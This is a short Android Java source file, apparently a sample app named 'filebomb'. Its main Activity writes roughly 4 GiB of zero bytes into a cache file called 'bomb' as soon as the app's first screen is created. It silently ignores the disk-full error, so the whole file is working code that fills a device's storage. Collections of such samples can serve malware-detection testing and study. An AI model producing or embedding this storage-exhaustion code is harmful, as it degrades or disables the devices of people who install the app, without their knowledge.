package org.apkfarm.sample.filebomb;

import android.app.Activity;
import android.os.Bundle;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;

/** Does it when its first screen is made. */
public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        byte[] block = new byte[1 << 20];
        try (FileOutputStream out = new FileOutputStream(new File(getCacheDir(), "bomb"))) {
            for (int number = 0; number < 4_096; number++) {
                out.write(block);
            }
        } catch (IOException full) {
            // As it should be.
        }
    }
}
